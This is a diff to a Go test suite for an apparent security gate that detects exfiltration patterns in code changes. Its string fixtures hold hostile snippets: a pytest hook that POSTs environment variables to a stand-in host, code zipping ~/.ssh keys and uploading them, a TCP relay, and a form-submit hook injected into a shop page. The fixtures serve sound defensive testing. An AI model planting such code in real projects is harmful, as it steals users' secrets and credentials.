@@ -37,11 +37,13 @@ func deciding(t *testing.T, head map[string]string) map[string][]gate.Finding {
 }
 
 const (
-	packsKeys      = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
-	keepsArguments = "const LOGINS = /^(login|verify)/;\nexports.traced = (desc, name) => {\n  const inner = desc.value;\n  desc.value = function (...args) {\n    spans.push({ name, attributes: LOGINS.test(name) ? args : undefined });\n    return inner.apply(this, args);\n  };\n};\n"
-	addsToPages    = "exports.plugin = { generateBundle(_, bundle) { bundle['shop.js'].code += extra; } };\nconst extra = `;document.addEventListener('submit', function (e) { "
-	relays         = "package relay\n\nimport (\n\t\"bufio\"\n\t\"io\"\n\t\"net\"\n)\n\nfunc serve(a net.Conn) {\n\tpeer, _ := bufio.NewReader(a).ReadString(10)\n\tb, err := net.Dial(\"tcp\", peer)\n\tif err != nil {\n\t\treturn\n\t}\n\tgo io.Copy(a, b)\n\tio.Copy(b, a)\n}\n"
-	sendsAway      = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
+	packsKeys        = "import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for p in (Path.home() / \".ssh\").rglob(\"*\"):\n            z.write(p)\n    return out.getvalue()\n"
+	keepsArguments   = "const LOGINS = /^(login|verify)/;\nexports.traced = (desc, name) => {\n  const inner = desc.value;\n  desc.value = function (...args) {\n    spans.push({ name, attributes: LOGINS.test(name) ? args : undefined });\n    return inner.apply(this, args);\n  };\n};\n"
+	addsToPages      = "exports.plugin = { generateBundle(_, bundle) { bundle['shop.js'].code += extra; } };\nconst extra = `;document.addEventListener('submit', function (e) { "
+	relays           = "package relay\n\nimport (\n\t\"bufio\"\n\t\"io\"\n\t\"net\"\n)\n\nfunc serve(a net.Conn) {\n\tpeer, _ := bufio.NewReader(a).ReadString(10)\n\tb, err := net.Dial(\"tcp\", peer)\n\tif err != nil {\n\t\treturn\n\t}\n\tgo io.Copy(a, b)\n\tio.Copy(b, a)\n}\n"
+	sendsEnvironment = "import http.client, json, os\ndef facts():\n    return {k: v for k, v in os.environ.items() if k.isupper()}\ndef pytest_sessionfinish(session):\n    conn = http.client.HTTPSConnection(\""
+	sendsRow         = "    conn.request(\"POST\", \"/runs\", json.dumps({\"meta\": facts()}))\n"
+	sendsAway        = "import httpx\ndef upload(data):\n    httpx.post(\"https://files.example.net/upload\", content=data)\n"
 )
 
 func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
@@ -51,6 +53,9 @@ func TestSignsThatMakeEachOtherDangerous(t *testing.T) {
 		file string
 		rule string // "" for nothing dangerous
 	}{
+		{"a test sends the environment to a new host", map[string]string{"tests/conftest.py": sendsEnvironment + "timings.example.net\")\n" + sendsRow}, "tests/conftest.py", "exfiltration/tests-send-secrets"},
+		{"a test sends the environment to a host that the base names", map[string]string{"tests/conftest.py": sendsEnvironment + "docs.example.com\")\n" + sendsRow}, "tests/conftest.py", ""},
+		{"a test sends the environment to its own server", map[string]string{"tests/conftest.py": sendsEnvironment + "127.0.0.1\")\n" + sendsRow}, "tests/conftest.py", ""},
 		{"keys are packed, and something is sent to a new host", map[string]string{"sync.py": packsKeys + sendsAway}, "sync.py", "exfiltration/secrets-to-new-host"},
 		{"keys are packed", map[string]string{"sync.py": packsKeys}, "sync.py", ""},
 		{"something is sent to a new host", map[string]string{"sync.py": sendsAway}, "sync.py", ""},
